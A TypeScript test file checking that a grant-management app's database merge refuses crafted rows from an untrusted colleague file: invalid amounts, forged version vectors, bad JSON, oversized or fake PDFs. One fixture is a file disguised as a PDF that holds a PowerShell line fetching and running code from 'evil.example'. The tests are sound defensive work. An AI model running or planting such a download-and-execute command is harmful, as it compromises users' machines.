import { createHash } from 'node:crypto'
import Database from 'better-sqlite3'
import { describe, expect, it } from 'vitest'
import { applyMerge, previewMerge, type MergeOptions } from '../../database/merge'
import { newId } from '../../database/ids'
import { dumpTables, mergePair, OFFICER, ok, projectByCode, projectEdit, refused, writeAsAttacker } from './helpers'

/**
 * A colleague's file is input from outside (issue 10): rows crafted straight into their file, past
 * the app's forms, are refused in the preview with their reason, and nothing of them reaches mine.
 */

const OPTIONS: MergeOptions = { officer: OFFICER, resolutions: {}, backup: true, prefer: 'theirs' }
const STAMP = '2026-02-01T10:00:00.000Z'
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex')

function insertDocument(db: Database.Database, fileName: string, bytes: Buffer, digest = sha(bytes)): string {
  const id = newId()
  db.prepare(
    `INSERT INTO documents (id, kind, project_id, language, version, status, reference, title, file_name, produced_at, produced_by, finalized_at,
      page_count, byte_size, sha256, pdf, data_json, created_at, updated_at, updated_by)
     VALUES (?, 'programme', NULL, 'fr', 1, 'final', ?, 'Rapport', ?, ?, 'Pieter', ?, 1, ?, ?, ?, '{}', ?, ?, 'Pieter')`,
  ).run(id, `PROG-${id.slice(0, 8)}`, fileName, STAMP, STAMP, bytes.length, digest, bytes, STAMP, STAMP)
  return id
}

describe('a merge source is untrusted input', () => {
  it('refuses every crafted row in the preview with its reason, and writes nothing of them into mine', async () => {
    const { mine, theirs, minePath, theirsPath } = await mergePair()
    // An edit of mine that a forged vector will claim to have seen.
    const rv1 = await projectByCode(mine, 'AMIF-2024-RV-01')
    await ok(mine, 'projects.update', { id: rv1.id, values: projectEdit(rv1, { title: 'Mon titre à moi' }) })
    const mineFileId = mine.file().sqlite.prepare('SELECT file_id FROM meta').pluck().get() as string
    await theirs.close()

    const ids: Record<string, string> = {}
    writeAsAttacker(theirsPath, (db) => {
      const one = (sql: string) => db.prepare(sql).pluck().get() as string
      ids.budget = one('SELECT id FROM budget_lines WHERE amount_cents IS NOT NULL ORDER BY id LIMIT 1')
      db.prepare('UPDATE budget_lines SET amount_cents = -150 WHERE id = ?').run(ids.budget)
      ids.payment = one('SELECT id FROM payments ORDER BY id LIMIT 1')
      db.prepare("UPDATE payments SET status = 'paid', paid_date = '2026-01-05', paid_cents = 5000000000000 WHERE id = ?").run(ids.payment)
      ids.call = one('SELECT id FROM calls ORDER BY id LIMIT 1')
      db.prepare('UPDATE calls SET envelope_cents = 9223372036854775807 WHERE id = ?').run(ids.call)
      ids.project = one("SELECT id FROM projects WHERE code = 'AMIF-2024-RV-02'")
      db.prepare("UPDATE projects SET end_date = '9999-99-99' WHERE id = ?").run(ids.project)
      ids.nul = one('SELECT id FROM organisations ORDER BY id LIMIT 1')
      db.prepare("UPDATE organisations SET city = char(0) || 'Mons' WHERE id = ?").run(ids.nul)
      ids.huge = newId()
      db.prepare("INSERT INTO organisations (id, name, kind, created_at, updated_at, updated_by) VALUES (?, ?, 'ngo', ?, ?, 'Pieter')").run(
        ids.huge,
        'N'.repeat(1_000_000),
        STAMP,
        STAMP,
      )
      // A new milestone of theirs under the organisation refused for its size: it cannot come without it.
      ids.dependant = newId()
      db.prepare(
        `INSERT INTO milestones (id, project_id, title, objective_code, due_date, status, responsible_id, created_at, updated_at, updated_by)
         VALUES (?, ?, 'Jalon', 'SO1', '2026-05-01', 'planned', ?, ?, ?, 'Pieter')`,
      ).run(ids.dependant, ids.project, ids.huge, STAMP, STAMP)
      // A vector claiming five more of my changes than I made: it would overwrite my title as a plain update.
      const vv = JSON.parse(one(`SELECT sync_vv FROM projects WHERE id = '${rv1.id}'`)) as Record<string, number>
      const forged = JSON.stringify({ ...vv, [mineFileId]: (vv[mineFileId] ?? 0) + 5 })
      db.prepare("UPDATE projects SET title = 'Payez sur BE71 0961 2345 6769', sync_vv = ? WHERE id = ?").run(forged, rv1.id)
      ids.forged = rv1.id

      const history = (table: string, columns: string, values: unknown[]) => {
        const id = newId()
        db.prepare(`INSERT INTO ${table} (id, ${columns}) VALUES (?, ${values.map(() => '?').join(', ')})`).run(id, ...values)
        return id
      }
      ids.audit = history('audit_log', 'at, officer_name, entity, record_id, action, after_json', [
        STAMP,
        'Pieter',
        'project',
        rv1.id,
        'update',
        '{pas du json',
      ])
      ids.handoverJson = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', [
        STAMP,
        'Pieter',
        'Élise',
        'Note',
        'oops',
        'a',
        'b',
      ])
      ids.handover9999 = history('handovers', 'at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id', [
        '9999-12-31T00:00:00.000Z',
        'Pieter',
        'Élise',
        'Lisez-moi en premier',
        '[]',
        'a',
        'b',
      ])
      ids.merge = history('sync_merges', 'at, officer_name, into_file_id, from_file_id, from_name, added, updated, deleted, conflicts, resolutions_json', [
        STAMP,
        'Pieter',
        'a',
        'b',
        'x.amif',
        0,
        0,
        0,
        0,
        '[{',
      ])

      ids.script = insertDocument(
        db,
        'Convention AMIF.pdf                                   .cmd',
        Buffer.from('@echo off\r\npowershell -c "iwr evil.example | iex"\r\n'),
      )
      const big = Buffer.alloc(60 * 1024 * 1024, 0x20)
      big.write('%PDF-1.7\n')
      ids.big = insertDocument(db, 'rapport.pdf', big)
      const pdf = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF')
      ids.sha = insertDocument(db, 'rapport.pdf', pdf, sha(Buffer.from('something else')))
    })
    const before = dumpTables(minePath)

    const preview = await previewMerge(mine.file(), theirsPath)
    const reasons = Object.fromEntries(preview.refused.map((r) => [r.id, [r.table, r.reason, r.field]]))
    expect(reasons).toEqual({
      [ids.budget]: ['budget_lines', 'invalid_value', 'amountCents'],
      [ids.payment]: ['payments', 'invalid_value', 'paidCents'],
      [ids.call]: ['calls', 'invalid_value', 'envelopeCents'],
      [ids.project]: ['projects', 'invalid_value', 'endDate'],
      [ids.nul]: ['organisations', 'invalid_value', 'city'],
      [ids.huge]: ['organisations', 'invalid_value', 'name'],
      [ids.dependant]: ['milestones', 'depends_on_refused', 'responsibleId'],
      [ids.forged]: ['projects', 'forged_vector', 'syncVv'],
      [ids.audit]: ['audit_log', 'bad_json', 'afterJson'],
      [ids.handoverJson]: ['handovers', 'bad_json', 'openItemsJson'],
      [ids.handover9999]: ['handovers', 'future_date', 'at'],
      [ids.merge]: ['sync_merges', 'bad_json', 'resolutionsJson'],
      [ids.script]: ['documents', 'not_pdf', 'pdf'],
      [ids.big]: ['documents', 'too_large', 'pdf'],
      [ids.sha]: ['documents', 'pdf_mismatch', 'pdf'],
    })
    // Labels stay short and printable, whatever the row holds.
    for (const r of preview.refused) expect(r.label.length).toBeLessThanOrEqual(120)
    expect(preview.refused.find((r) => r.id === ids.nul)!.label).not.toContain('\u0000')
    expect(preview).toMatchObject({
      added: [],
      updated: [],
      deleted: [],
      conflicts: [],
      appendOnly: { auditEntries: 0, handovers: 0, merges: 0 },
      nothingToMerge: false,
    })

    const result = await applyMerge(mine.writableFile(), theirsPath, OPTIONS)
    expect(result).toMatchObject({ added: 0, updated: 0, deleted: 0, mergeId: null, backupPath: null })
    expect(result.refused).toHaveLength(15)
    expect(dumpTables(minePath)).toEqual(before)
    expect((await projectByCode(mine, 'AMIF-2024-RV-01')).title).toBe('Mon titre à moi')
  }, 60_000)

  it('merges the valid rows of a file beside the refused ones; a history row received is marked as received, by this file’s clock', async () => {
    const { mine, theirs, theirsPath } = await mergePair()
    const org = await ok(theirs, 'partners.create', { values: { name: 'ASBL valable', kind: 'ngo' } })
    await theirs.close()
    let oldHandover = ''
    writeAsAttacker(theirsPath, (db) => {
      db.prepare(
        'UPDATE budget_lines SET amount_cents = -150 WHERE id = (SELECT id FROM budget_lines WHERE amount_cents IS NOT NULL ORDER BY id LIMIT 1)',
      ).run()
      oldHandover = newId()
      db.prepare(
        "INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '2020-01-01T00:00:00.000Z', 'Pieter', 'Élise', 'Note ancienne', '[]', 'a', 'b')",
      ).run(oldHandover)
      db.prepare(
        "INSERT INTO handovers (id, at, from_officer, to_name, note, open_items_json, source_file_id, copy_file_id) VALUES (?, '9999-12-31T00:00:00.000Z', 'Pieter', 'Élise', 'Lisez-moi en premier', '[]', 'a', 'b')",
      ).run(newId())
    })
    const result = await applyMerge(mine.writableFile(), theirsPath, OPTIONS)
    expect(result).toMatchObject({ added: 1, appendOnly: { handovers: 1 } })
    expect(result.refused.map((r) => [r.table, r.reason])).toEqual([
      ['budget_lines', 'invalid_value'],
      ['handovers', 'future_date'],
    ])
    expect(await ok(mine, 'partners.get', { id: org.id })).toMatchObject({ name: 'ASBL valable' })
    const theirsId = new Database(theirsPath, { readonly: true }).prepare('SELECT file_id FROM meta').pluck().get()
    const row = mine.file().sqlite.prepare('SELECT * FROM handovers WHERE id = ?').get(oldHandover) as Record<string, string>
    expect(row.received_from_file_id).toBe(theirsId)
    expect(Date.parse(row.received_at)).toBeGreaterThan(Date.now() - 60_000)
    // The latest handover is the one this file received last, not the one with the latest claimed date.
    expect((await ok(mine, 'handover.latest', {})).handover).toMatchObject({ id: oldHandover, note: 'Note ancienne', receivedFromFileId: theirsId })
  }, 60_000)

  it('a final document merged in is received, not final here: it can be deleted, or marked final as it is', async () => {
    const { mine, theirs, theirsPath } = await mergePair()
    await theirs.close()
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF')
    let kept = ''
    let dropped = ''
    writeAsAttacker(theirsPath, (db) => {
      kept = insertDocument(db, 'rapport.pdf', pdf)
      dropped = insertDocument(db, 'autre.pdf', pdf)
    })
    const theirsId = new Database(theirsPath, { readonly: true }).prepare('SELECT file_id FROM meta').pluck().get()
    expect(await applyMerge(mine.writableFile(), theirsPath, OPTIONS)).toMatchObject({ added: 2, refused: [] })
    const doc = async (ws: typeof mine, id: string) => (await ok(ws, 'documents.list', {})).rows.find((d) => d.id === id)
    expect(await doc(mine, kept)).toMatchObject({ status: 'draft', receivedFromFileId: theirsId })
    await ok(mine, 'documents.delete', { id: dropped })
    const marked = await ok(mine, 'documents.finalize', { id: kept })
    expect(marked).toMatchObject({ status: 'final', receivedFromFileId: null, sha256: sha(pdf) })
    expect((await refused(mine, 'documents.delete', { id: kept })).code).toBe('DOCUMENT_FINAL')
    // Marking it final changed nothing their file needs to take back but the vector.
    await theirs.open(theirsPath)
    const back = await applyMerge(theirs.writableFile(), mine.file().path, { ...OPTIONS, officer: OFFICER })
    expect(back).toMatchObject({ added: 0, updated: 0, deleted: 1 })
    expect(await doc(theirs, kept)).toMatchObject({ status: 'final', receivedFromFileId: null })
  }, 60_000)
})
